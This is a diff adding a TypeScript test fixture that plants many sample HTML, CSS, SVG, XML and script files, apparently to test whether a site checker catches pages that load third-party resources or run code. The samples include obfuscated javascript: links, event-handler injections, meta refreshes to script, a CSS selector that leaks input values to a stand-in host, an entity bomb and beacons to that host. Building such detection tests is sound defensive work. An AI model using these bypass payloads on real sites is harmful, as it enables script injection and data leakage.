@@ -1,0 +1,287 @@
+import { page } from '../../support/planted.ts';
+import type { Planting, PlantingGroup } from '../planting.ts';
+
+const away = 'https://elsewhere.example/x';
+const file = (name: string, extension: string, content: string): Planting => ({
+  name,
+  files: (slug) => ({ [`public/${slug}.${extension}`]: content }),
+});
+const inBody = (name: string, body: string): Planting => file(name, 'html', page(body));
+const inHead = (name: string, head: string): Planting =>
+  file(name, 'html', page('<p>متن</p>', head));
+const style = (name: string, css: string): Planting => file(name, 'css', css);
+
+const bodies: Record<string, string> = {
+  'a sound of another site': `<audio src="${away}"></audio>`,
+  'a source of a picture of another site': `<picture><source srcset="${away}"><img alt="" src="data:,"></picture>`,
+  'a small picture first, one of another site second': `<img alt="" srcset="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7 1x, ${away} 2x">`,
+  'a source of another site in srcset with many spaces': `<img alt="" srcset="   ,,, ${away}    100w">`,
+  'an embedded file of another site': `<embed src="${away}">`,
+  'a frame of another site': `<iframe src="${away}"></iframe>`,
+  'a frame without a scheme': '<iframe src="//elsewhere.example/"></iframe>',
+  'a frame with backslashes': String.raw`<iframe src="\\elsewhere.example\x"></iframe>`,
+  'a frame with one slash and a scheme': '<iframe src="https:/elsewhere.example/"></iframe>',
+  'a frame with a scheme and no slash': '<iframe src="https:elsewhere.example/"></iframe>',
+  'a frame with a tab in its scheme': '<iframe src="ht\ttps://elsewhere.example/"></iframe>',
+  'a page as data in a frame': '<iframe src="data:text/html,<script>x()</script>"></iframe>',
+  'a script as data in a frame': '<iframe src="javascript:x()"></iframe>',
+  'a drawing with a script as data':
+    '<object data="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22x()%22/%3E"></object>',
+  'an object with a code base': `<object codebase="${away}" data="x.swf"></object>`,
+  'an object with a class id':
+    '<object classid="clsid:D27CDB6E-AE6D-11cf-96B8-444553540000"></object>',
+  'a frame by a parameter': `<object type="text/html"><param name="src" value="${away}"></object>`,
+  'a frame with a policy of its own': `<iframe csp="report-uri ${away}" src="index.html"></iframe>`,
+  'an old picture element': `<image src="${away}">`,
+  'a background sound': `<bgsound src="${away}">`,
+  'a layer': `<layer src="${away}"></layer>`,
+  'XML in a page': `<xml src="${away}"></xml>`,
+  'a key generator': '<keygen>',
+  'an attribute of a picture for lists':
+    '<ul style="list-style-image:url(//elsewhere.example/x)"><li>x</ul>',
+  'a cell with a background of another site': `<table><tr><td background="${away}">x</table>`,
+  'a longer description of another site': `<img alt="" src="data:," lowsrc="${away}">`,
+  'a video with a source of another site': `<video><source src="${away}"></video>`,
+  'a map with a script': '<map name="m"><area href="javascript:x()" alt="x"></map>',
+  'a form with a script': '<form action="javascript:x()"><button>x</button></form>',
+  'a button with a script': '<form><button formaction="javascript:x()">x</button></form>',
+  'a form to a mail': '<form action="mailto:sara@example.org"><input name="a"></form>',
+  'a field that gets the focus and runs a script': '<input autofocus onfocus=x()>',
+  'details that run a script': '<details open ontoggle="x()"><summary>x</summary></details>',
+  'an animation that runs a script':
+    '<svg><animate onbegin="x()" attributeName="x" dur="1s"/></svg>',
+  'a picture with a handler without quotes': '<img src=x alt="" onerror=x()>',
+  'a handler after a slash': '<img alt=""/onerror=x()/src=data:,>',
+  'a handler of the future': '<p onscrollsnapchange="x()">متن</p>',
+  'a handler of a gesture': '<p onwebkitmouseforcechanged="x()">متن</p>',
+  'a handler with a colon': '<p on:click="x()">متن</p>',
+  'a handler of Vue': '<p @click="x()">متن</p>',
+  'a handler of Alpine': '<p x-on:click="x()" x-data="{}">متن</p>',
+  'a request of htmx': '<p hx-get="/x">متن</p>',
+  'an app of Angular': '<div ng-app ng-init="x()">متن</div>',
+  'a link with a script after a control character': '<a href="&#1;javascript:x()">x</a>',
+  'a link with a script after a form feed': '<a href="&#12;javascript:x()">x</a>',
+  'a link with a carriage return in a script': '<a href="javascript&#13;:x()">x</a>',
+  'a link with a script in decimal without semicolons':
+    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58x()">x</a>',
+  'a link with a script in hex with zeros': '<a href="&#x000006A;avascript:x()">x</a>',
+  'a link with a script with named characters':
+    '<a href="java&Tab;script&colon;x&lpar;&rpar;">x</a>',
+  'a link of a drawing with a script': '<svg><a href="javascript:x()"><text>x</text></a></svg>',
+  'an old link of a drawing with a script':
+    '<svg><a xlink:href="javascript:x()"><text>x</text></a></svg>',
+  'a use of a drawing of another site': `<svg><use href="${away}#a"/></svg>`,
+  'a use of a drawing as data':
+    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=x() /></svg>#x"/></svg>',
+  'a pattern of another site': `<svg><pattern href="${away}#a"/></svg>`,
+  'a gradient of another site': `<svg><linearGradient xlink:href="${away}#a"/></svg>`,
+  'a path of motion of another site': `<svg><animateMotion><mpath href="${away}#a"/></animateMotion></svg>`,
+  'text on a path of another site': `<svg><text><textPath href="${away}#a">x</textPath></text></svg>`,
+  'a cursor of another site in a drawing': `<svg><rect cursor="url(${away}),auto"/></svg>`,
+  'a filter of another site in a drawing': `<svg><rect filter="url(${away}#a)"/></svg>`,
+  'a mask of another site in a drawing': `<svg><rect mask="url('${away}#a')"/></svg>`,
+  'an animation of a fill': `<svg><rect><animate attributeName="fill" values="red;url(${away}#a)"/></rect></svg>`,
+  'a set of a filter': `<svg><rect><set attributeName="filter" to="url(${away}#a)"/></rect></svg>`,
+  'an animation of a style': '<svg><rect><set attributeName="style" to="x"/></rect></svg>',
+  'a drawing with HTML in it on a page': '<svg><foreignObject><p>x</p></foreignObject></svg>',
+  'a handler of a drawing': '<svg><handler type="text/javascript">x()</handler></svg>',
+  'a listener of a drawing': '<svg><listener event="click"/></svg>',
+  'a formula with an action': `<math><maction actiontype="statusline#${away}"><mi>x</mi></maction></math>`,
+  'a formula with a link': `<math href="javascript:x()"><mi>x</mi></math>`,
+  'a formula with a picture': `<math><mglyph src="${away}"/></math>`,
+  'a formula with HTML in its annotation': `<math><annotation-xml encoding="text/html"><img src="${away}" alt=""></annotation-xml></math>`,
+  'a template out of a page': '<template><img src=x onerror=x()></template>',
+  'a plain text that hides a picture': `<plaintext><img src="${away}">`,
+  'an example that hides a picture': `<xmp><img src="${away}"></xmp>`,
+  'a text without frames': `<noframes><img src="${away}"></noframes>`,
+  'a custom element': '<sara-editor>متن</sara-editor>',
+  'a custom kind of an element': '<p is="sara-p">متن</p>',
+  'a selected content': '<button><selectedcontent></selectedcontent></button>',
+  'a permission': '<permission type="geolocation"></permission>',
+  'a link that shares its storage':
+    '<a href="https://example.org" attributionsrc="https://elsewhere.example">x</a>',
+  'a frame that shares topics': '<iframe browsingtopics src="index.html"></iframe>',
+  'a picture that writes shared storage': '<img alt="" sharedstoragewritable src="data:,">',
+  'a frame with credentials of an advertiser':
+    '<iframe adauctionheaders src="index.html"></iframe>',
+  'a link that sends the address of the page':
+    '<a referrerpolicy="unsafe-url" href="https://example.org">x</a>',
+};
+
+const heads: Record<string, string> = {
+  'a refresh to another site': `<meta http-equiv=refresh content=5;URL=${away}>`,
+  'a refresh with a comma': `<meta http-equiv="refresh" content="0,url=${away}">`,
+  'a refresh with line breaks': `<meta http-equiv="refresh" content="0;\nurl\n=\n'${away}'">`,
+  'a refresh with a fraction': `<meta http-equiv="refresh" content=".5;url=${away}">`,
+  'a refresh to a script': '<meta http-equiv="refresh" content="0;url=javascript:x()">',
+  'a refresh to data':
+    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>x()</script>">',
+  'a refresh that begins with a space': `<meta http-equiv="refresh" content="  1 ; url = ${away}">`,
+  'a policy that only reports': `<meta http-equiv="content-security-policy-report-only" content="default-src 'none';report-uri ${away}">`,
+  'endpoints of reports': `<meta http-equiv="reporting-endpoints" content="a=${away}">`,
+  'a permission policy': '<meta http-equiv="permissions-policy" content="geolocation=*">',
+  'a proof for an experiment': '<meta http-equiv="origin-trial" content="AbC">',
+  'client hints': '<meta http-equiv="accept-ch" content="Sec-CH-UA-Model">',
+  'hints for another site': `<meta http-equiv="delegate-ch" content="sec-ch-ua-model ${away}">`,
+  'a cache of the page': '<meta http-equiv="expires" content="Fri, 23 Jul 2021 10:30:00 GMT">',
+  'the window of a page': '<meta http-equiv="window-target" content="_top">',
+  'a style of another site': `<link rel="stylesheet" href="${away}">`,
+  'a style with a second type': `<link rel="alternate stylesheet" title="x" href="${away}">`,
+  'an icon of another site': `<link rel="shortcut icon" href="${away}">`,
+  'a search of another site': `<link rel="search" type="application/opensearchdescription+xml" href="${away}">`,
+  'an expected part of a page': '<link rel="expect" href="#a" blocking="render">',
+  'a dictionary for compression': `<link rel="compression-dictionary" href="${away}">`,
+  'an import of HTML': `<link rel="import" href="${away}">`,
+  'a subresource': `<link rel="subresource" href="${away}">`,
+  'a payment': '<link rel="payment" href="https://pay.example/sara">',
+  'a web of mentions': `<link rel="webmention" href="${away}">`,
+  'a server for sign-in': `<link rel="openid.server" href="${away}">`,
+  'a style as data that loads': `<link rel="stylesheet" href="data:text/css,a{background:url(${away})}">`,
+  'a style as data in Base64 that loads': `<link rel="stylesheet" href="data:text/css;base64,${Buffer.from(`a{background:url(${away})}`).toString('base64')}">`,
+  'a script as JSON': '<script type="application/json">{"editor":"sara"}</script>',
+  'a script of another language': '<script type="text/babel">x()</script>',
+  'a script for old browsers': '<script nomodule src="x.js"></script>',
+  'a script by an event': '<script for="window" event="onload">x()</script>',
+  'a style of another language': '<style type="text/less">@a: "sara";</style>',
+  'a link header': `<meta http-equiv="link" content="<${away}>; rel=preload">`,
+};
+
+const files: readonly Planting[] = [
+  style(
+    'a font of another site',
+    `@font-face{font-family:x;src:local("x"),url("${away}") format("woff2")}`,
+  ),
+  style('an import without url()', `@import "${away}" screen;`),
+  style('an import after a comment', `@import/**/"${away}";`),
+  style('an import in capitals', `@IMPORT URL(${away});`),
+  style('a URL with an escaped line end', 'a{background:url("https:\\\n//elsewhere.example/x")}'),
+  style('a URL without a closing bracket', `a{background:url(${away}`),
+  style('a URL in a string without an end', `a{background:url("${away}`),
+  style('a URL in a custom property', `:root{--a:url(${away})}a{background:var(--a)}`),
+  style('a set of pictures by a type', `a{background:image-set(url(${away}) type("image/avif"))}`),
+  style('a mixture of pictures', `a{background:-webkit-cross-fade(url(${away}),url(x.png),50%)}`),
+  style('a picture as element', 'a{background:image("https://elsewhere.example/x",red)}'),
+  style('a mask of another site', `a{-webkit-mask:url(${away})}`),
+  style('a cursor of another site', `a{cursor:url(${away}),auto}`),
+  style('a picture in generated content', `a::before{content:url(${away})}`),
+  style('a shape of another site', `a{shape-outside:url(${away})}`),
+  style('a border of another site', `a{border-image:url(${away}) 30}`),
+  style('a filter of another site in a style', `a{filter:url(${away}#a)}`),
+  style('an offset of another site', `a{offset-path:url(${away}#a)}`),
+  style('a colour profile of another site', `@color-profile --x{src:url(${away})}`),
+  style('a counter style with a picture', `@counter-style x{system:cyclic;symbols:url(${away})}`),
+  style(
+    'a property with an initial URL',
+    `@property --x{syntax:"<url>";inherits:false;initial-value:url(${away})}`,
+  ),
+  style('a picture by attr()', 'a{background:src(attr(href))}'),
+  style('a field that is guessed letter by letter', `input[value^="a"]{background:url(${away}?a)}`),
+  style('a document rule', `@document url-prefix("${away}"){a{color:red}}`),
+  style(
+    'a filter of old browsers',
+    `a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='${away}')}`,
+  ),
+  style('a link of old browsers', 'a{-o-link:"javascript:x()";-o-link-source:current}'),
+  style(
+    'a style with an address in a name space and a load',
+    `@namespace "x";a{background:url(${away})}`,
+  ),
+  style('a map of a style', 'a{color:red}\n/*# sourceMappingURL=x.css.map */'),
+  style(
+    'a style with a licence that names more',
+    '/*! MIT License. Path: /home/sara/x.css */a{color:red}',
+  ),
+  file(
+    'a drawing with a style of another site',
+    'svg',
+    `<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(${away});</style></svg>`,
+  ),
+  file(
+    'a drawing with a style sheet instruction',
+    'svg',
+    `<?xml-stylesheet href="${away}"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
+  ),
+  file(
+    'a drawing with a set of a link',
+    'svg',
+    '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:x()"/></a></svg>',
+  ),
+  file(
+    'a drawing with an external entity',
+    'svg',
+    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns "sara">]><svg xmlns="http://www.w3.org/2000/svg"/>',
+  ),
+  file(
+    'XML with a bomb of entities',
+    'xml',
+    '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
+  ),
+  file(
+    'XML with an external part',
+    'xml',
+    '<!DOCTYPE x SYSTEM "http://elsewhere.example/x.dtd"><x/>',
+  ),
+  file(
+    'XML with an inclusion',
+    'xml',
+    `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${away}"/></x>`,
+  ),
+  file(
+    'a feed with a style that transforms it',
+    'xml',
+    '<?xml-stylesheet href="x.xsl" type="text/xsl"?><rss><channel><title>x</title></channel></rss>',
+  ),
+  file(
+    'a transformation',
+    'xsl',
+    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">x()</script></xsl:template></xsl:stylesheet>',
+  ),
+  file(
+    'XHTML with a script of XML events',
+    'xhtml',
+    '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:ev="http://www.w3.org/2001/xml-events"><head><title>x</title></head><body><ev:listener event="load" handler="#x"/></body></html>',
+  ),
+  file(
+    'XHTML with a picture of another site in a prefix',
+    'xhtml',
+    `<h:html xmlns:h="http://www.w3.org/1999/xhtml"><h:body><h:img src="${away}"/></h:body></h:html>`,
+  ),
+  file(
+    'XHTML with a base of XML',
+    'xhtml',
+    `<html xmlns="http://www.w3.org/1999/xhtml" xml:base="${away}"><head><title>x</title></head><body/></html>`,
+  ),
+  file(
+    'a page with a cache manifest',
+    'html',
+    '<!DOCTYPE html><html manifest="x.appcache" lang="fa"><head><meta charset="utf-8"><title>x</title></head><body>متن</body></html>',
+  ),
+  file(
+    'a script that registers a service worker',
+    'js',
+    "navigator.serviceWorker.register('sw.js')",
+  ),
+  file('a script that stores something', 'js', "localStorage.setItem('id', '1')"),
+  file('a script that sets a cookie', 'js', "document.cookie = 'id=1'"),
+  file('a script that loads from another site', 'js', "fetch('https://elsewhere.example/x')"),
+  file(
+    'a script that sends to another site',
+    'mjs',
+    "navigator.sendBeacon('https://elsewhere.example/x')",
+  ),
+  file(
+    'a service worker',
+    'js',
+    "self.addEventListener('fetch', (event) => event.respondWith(fetch(event.request)))",
+  ),
+];
+
+export const group: PlantingGroup = {
+  title: 'What pages load and run',
+  leaks: [
+    ...Object.entries(bodies).map(([name, body]) => inBody(name, body)),
+    ...Object.entries(heads).map(([name, head]) => inHead(name, head)),
+    ...files,
+  ],
+  harmless: [],
+};
